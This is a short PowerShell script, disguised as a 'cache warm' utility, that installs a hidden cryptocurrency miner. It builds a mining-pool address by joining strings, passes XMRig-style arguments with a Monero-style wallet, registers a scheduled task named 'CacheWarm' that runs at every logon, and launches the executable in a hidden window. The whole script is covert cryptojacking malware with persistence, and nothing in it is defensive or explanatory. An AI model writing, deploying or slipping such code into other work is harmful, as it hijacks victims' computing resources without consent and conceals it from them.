$exe = "$env:LOCALAPPDATA\cache\warm.exe"
$far = ('pool', 'cache-warm', 'example') -join '.'
$words = "-o $($far):3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k --cpu-priority 1"
$action = New-ScheduledTaskAction -Execute $exe -Argument $words
Register-ScheduledTask -TaskName "CacheWarm" -Action $action -Trigger (New-ScheduledTaskTrigger -AtLogOn)
Start-Process $exe -ArgumentList $words -WindowStyle Hidden
